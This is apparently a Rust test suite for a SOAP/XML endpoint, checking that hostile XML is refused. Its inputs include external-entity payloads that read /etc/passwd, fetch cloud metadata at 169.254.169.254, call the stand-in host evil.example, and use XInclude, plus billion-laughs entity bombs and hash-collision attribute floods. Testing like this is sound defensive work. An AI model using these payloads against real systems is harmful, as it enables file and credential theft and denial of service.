//! X1 to X10: documents that are no envelope, or would do harm to who reads them.

use super::{API, Door, SOAP, XSI, a_door, post, with_header};

/// An envelope without credentials around this payload; what is wrong must be found before anybody
/// asks who sent it.
fn envelope(payload: &str) -> String {
    format!(
        "<s:Envelope xmlns:s=\"{SOAP}\" xmlns:xsi=\"{XSI}\"><s:Body>\
         <CreateRequest xmlns=\"{API}\">{payload}</CreateRequest></s:Body></s:Envelope>"
    )
}

const LIST: &str = "<Objects xsi:type=\"List\"><ListName>a</ListName></Objects>";

fn utf16(text: &str, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(unit).collect()
}

async fn all_turned_away(door: &Door, payloads: &[&str], expected: &str) {
    for payload in payloads {
        door.turns_away(envelope(payload), expected).await;
    }
}

#[tokio::test(start_paused = true)]
async fn x01_a_doctype_is_refused_wherever_it_stands() {
    let door = a_door().await;
    for before in [
        "",
        "<!-- first -->",
        "<?first?>",
        "<?xml version=\"1.0\"?>\n",
        "<!-- a --><?b?>\n ",
    ] {
        for doctype in [
            "<!DOCTYPE x>",
            "<!doctype x>",
            "<!DOCTYPE x []>",
            "<!DocType x>",
        ] {
            let text = format!("{before}{doctype}{}", envelope(LIST));
            door.turns_away(text.clone(), "DOCTYPE").await;
            let marked = format!("\u{FEFF}{text}");
            door.turns_away(utf16(&marked, u16::to_le_bytes), "DOCTYPE")
                .await;
            door.turns_away(utf16(&marked, u16::to_be_bytes), "DOCTYPE")
                .await;
        }
    }
    let inside =
        "<Objects xsi:type=\"List\"><ListName><![CDATA[<!DOCTYPE x>]]></ListName></Objects>";
    let answer = door.takes(door.create(inside)).await;
    assert!(answer.body.contains("CreateResponse"), "{}", answer.body);
}

#[tokio::test(start_paused = true)]
async fn x02_nothing_outside_is_fetched() {
    let door = a_door().await;
    for doctype in [
        "<!DOCTYPE x SYSTEM \"http://169.254.169.254/latest/meta-data/\">",
        "<!DOCTYPE x PUBLIC \"-//W3C//DTD\" \"http://evil.example/x.dtd\">",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;]>",
    ] {
        door.turns_away(format!("{doctype}{}", envelope(LIST)), "DOCTYPE")
            .await;
    }
    let include =
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    door.turns_away(envelope(include), "'include' is not in the namespace")
        .await;
    let schema = door.create(LIST).replace(
        "<CreateRequest ",
        "<CreateRequest xsi:schemaLocation=\"a http://evil.example/a.xsd\" ",
    );
    let styled = schema.replacen(
        "?>",
        "?><?xml-stylesheet href=\"http://evil.example/a.xsl\" type=\"text/xsl\"?>",
        1,
    );
    door.takes(styled).await;
    door.caller.settles().await;
    assert!(door.caller.callbacks().is_empty(), "something was fetched");
}

#[tokio::test(start_paused = true)]
async fn x03_entities_do_not_grow() {
    let door = a_door().await;
    let laughs: String = (1..10)
        .map(|number| {
            let before = format!("&a{};", number - 1).repeat(10);
            format!("<!ENTITY a{number} \"{before}\">")
        })
        .collect();
    let quadratic = format!("<!ENTITY a0 \"{}\">", "x".repeat(100_000));
    for subset in [
        format!("<!ENTITY a0 \"lol\">{laughs}"),
        quadratic,
        "<!ENTITY a0 \"&a1;\"><!ENTITY a1 \"&a0;\">".to_owned(),
        "<!ENTITY % a0 \"&#37;a0;\">%a0;".to_owned(),
    ] {
        let text = format!("<!DOCTYPE x [{subset}]>{}", envelope(&"&a9;".repeat(1_000)));
        door.turns_away(text, "DOCTYPE").await;
    }
    door.turns_away(envelope("&a0;"), "an entity that is not declared")
        .await;
}

#[tokio::test(start_paused = true)]
async fn x04_only_what_xml_allows_can_be_referred_to() {
    let door = a_door().await;
    for reference in [
        "&a;",
        "&nbsp;",
        "&LT;",
        "&#0;",
        "&#x0;",
        "&#8;",
        "&#xFFFE;",
        "&#xFFFF;",
        "&#xD800;",
        "&#xDFFF;",
        "&#x110000;",
        "&#99999999999999999999999;",
        "&#-1;",
        "&#;",
        "&#x;",
        "&lt",
        "&",
    ] {
        let value = format!("<Objects><ListName>{reference}</ListName></Objects>");
        door.turns_away(envelope(&value), "not well-formed").await;
        let attribute = format!("<Objects a=\"{reference}\"/>");
        door.turns_away(envelope(&attribute), "not well-formed")
            .await;
    }
}

#[tokio::test(start_paused = true)]
async fn x05_depth_is_bounded() {
    let door = a_door().await;
    let open = "<A>".repeat(30_000);
    let closed = "</A>".repeat(30_000);
    all_turned_away(
        &door,
        &[&open, &format!("{open}{closed}")],
        "nested deeper than 64",
    )
    .await;
    // In Header, too, which is read before anybody is known.
    let header = format!("<s:Envelope xmlns:s=\"{SOAP}\"><s:Header>{open}");
    door.turns_away(header, "nested deeper than 64").await;
}

#[tokio::test(start_paused = true)]
async fn x06_attributes_names_and_declarations_are_bounded() {
    let door = a_door().await;
    let many = |each: fn(u32) -> String| (0..100_000).map(each).collect::<String>();
    let huge = "a".repeat(1_000_000);
    for (inside, expected) in [
        (
            format!("<A{}/>", many(|number| format!(" a{number}=''"))),
            "more than 64 attributes",
        ),
        (
            format!("<A{}/>", many(|number| format!(" xmlns:p{number}='u'"))),
            "more than 64 attributes",
        ),
        (format!("<{huge}/>"), "longer than 255"),
        (format!("<A {huge}=''/>"), "longer than 255"),
        (format!("<{huge}:A/>"), "longer than 255"),
        (
            format!("<A xmlns:p='{huge}'/>"),
            "a namespace longer than 512",
        ),
        // Names that would all meet in one place of a careless table.
        (
            format!(
                "<A{}/>",
                (0..10_000)
                    .map(|number| format!(" {}='{number}'", "Aa".repeat(1 + number % 60)))
                    .collect::<String>()
            ),
            "more than 64 attributes",
        ),
    ] {
        door.turns_away(envelope(&inside), expected).await;
    }
    // A long value is one: it is kept or refused for what it means, not for its length.
    let long = format!("<Objects xsi:type=\"List\" a=\"{huge}\"><ListName>a</ListName></Objects>");
    door.takes(door.create(&long)).await;
}

#[tokio::test(start_paused = true)]
async fn x07_an_attribute_stands_once() {
    let door = a_door().await;
    let twice = [
        "<A b='1' b='2'/>",
        "<A xmlns:p='urn:u' xmlns:q='urn:u' p:b='1' q:b='2'/>",
        "<A xmlns:p='urn:u' xmlns:q='urn:&#117;' p:b='1' q:b='2'/>",
        "<A xsi:type='List' xsi:type='Subscriber'/>",
        "<A xmlns:x='http://www.w3.org/2001/XMLSchema-instance' xsi:nil='true' x:nil='false'/>",
    ];
    all_turned_away(&door, &twice, "not well-formed").await;
    door.turns_away(
        envelope("<A xmlns:p='urn:a' xmlns:p='urn:b'/>"),
        "declared twice",
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn x08_prefixes_mean_what_is_declared() {
    let door = a_door().await;
    let wrong = [
        "<p:A/>",
        "<A p:b='1'/>",
        "<xmlns:A/>",
        "<A xmlns:p=''/>",
        "<A xmlns:xml='urn:x'/>",
        "<A xmlns:xmlns='urn:x'/>",
        "<A xmlns:p='http://www.w3.org/XML/1998/namespace'/>",
        "<A xmlns='http://www.w3.org/XML/1998/namespace'/>",
        "<A xmlns:p='http://www.w3.org/2000/xmlns/'/>",
    ];
    all_turned_away(&door, &wrong, "not well-formed").await;
    // Redeclared on the way, the default namespace makes Options somebody else's.
    for options in [
        "<Options xmlns=\"urn:other\"><RequestType>Asynchronous</RequestType></Options>",
        "<Options xmlns=\"\"><RequestType>Asynchronous</RequestType></Options>",
        "<x:Options xmlns:x=\"urn:x\"/>",
    ] {
        let text = envelope(&format!("{options}{LIST}"));
        door.turns_away(text, "'Options' is not in the namespace")
            .await;
    }
}

/// Bytes that are in no encoding of ours, or in another than they say.
fn in_no_encoding(plain: &str, in_utf8: &str) -> Vec<Vec<u8>> {
    let changed = |new: &[u8]| -> Vec<u8> {
        let change = |byte: u8| {
            if byte == 0xC3 {
                new.to_vec()
            } else {
                vec![byte]
            }
        };
        plain.bytes().flat_map(change).collect()
    };
    let mut lone = utf16(&format!("\u{FEFF}{plain}"), u16::to_le_bytes);
    lone[101] = 0xD8;
    vec![
        utf16(in_utf8, u16::to_le_bytes),
        utf16(in_utf8, u16::to_be_bytes),
        lone,
        // Too long for what it is, no UTF-8 at all, and NUL.
        changed(&[0xC0, 0xAF]),
        changed(&[0xFF]),
        changed(&[0, 0xC3]),
        [&[0xED, 0xA0, 0x80][..], plain.as_bytes()].concat(),
        [&[0, 0, 0xFE, 0xFF][..], plain.as_bytes()].concat(),
        // `<?xml` in EBCDIC, and in UTF-7.
        b"\x4C\x6F\xA7\x94\x93\x40".to_vec(),
        b"+ADw-?xml version=+ACI-1.0+ACI-?+AD4-".to_vec(),
    ]
}

#[tokio::test(start_paused = true)]
async fn x09_an_encoding_is_what_it_says() {
    let door = a_door().await;
    let plain = envelope("<Objects xsi:type=\"List\"><ListName>\u{e9}</ListName></Objects>");
    let declared = |name: &str| format!("<?xml version=\"1.0\" encoding=\"{name}\"?>{plain}");
    for name in [
        "utf-16",
        "iso-8859-1",
        "windows-1252",
        "utf-7",
        "ebcdic-cp-us",
        "utf-32",
    ] {
        door.turns_away(declared(name), "is declared, but").await;
        let said = with_header(
            post(plain.as_str()),
            "content-type",
            &format!("text/xml; charset={name}"),
        );
        door.turns_away_request(said, "is declared, but".to_owned())
            .await;
    }
    for bytes in in_no_encoding(&plain, &declared("utf-8")) {
        door.turns_away(bytes, "").await;
    }
    for good in [
        format!("\u{FEFF}{}", door.create(LIST)).into_bytes(),
        utf16(
            &format!("\u{FEFF}{}", door.create(LIST).replace("utf-8", "utf-16")),
            u16::to_le_bytes,
        ),
        utf16(
            &format!("\u{FEFF}{}", door.create(LIST).replace("utf-8", "utf-16")),
            u16::to_be_bytes,
        ),
    ] {
        // Without a charset in the Content-Type, the document speaks for itself.
        let request = with_header(post(good), "content-type", "text/xml");
        let answer = door.answer(&request).await;
        assert_eq!(answer.status, 200, "{}", answer.body);
    }
}

#[tokio::test(start_paused = true)]
async fn x10_a_document_is_whole_and_alone() {
    let door = a_door().await;
    let whole = envelope(LIST);
    for end in 0..whole.len() {
        door.turns_away(&whole[..end], "").await;
    }
    for (before, behind) in [
        ("", "x"),
        ("", "<a/>"),
        ("", &*whole),
        ("", "\0"),
        ("", "&#32;"),
        ("", "<![CDATA[]]>"),
        ("", "<!-- a -- b -->"),
        ("x", ""),
        (" <?xml version=\"1.0\"?>", ""),
        ("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>", ""),
        ("\u{FEFF}\u{FEFF}", ""),
        ("</a>", ""),
    ] {
        door.turns_away(format!("{before}{whole}{behind}"), "not")
            .await;
    }
    let inside = [
        "]]>",
        "<A>]]></A>",
        "<!-- a -- b -->",
        "<!-- a --->",
        "<?xml version='1.0'?>",
        "<?XML a?>",
        "<![CDATA[",
        "<!-- a",
        "<?a",
        "<A></B>",
        "</CreateRequest>",
    ];
    all_turned_away(&door, &inside, "not well-formed").await;
}
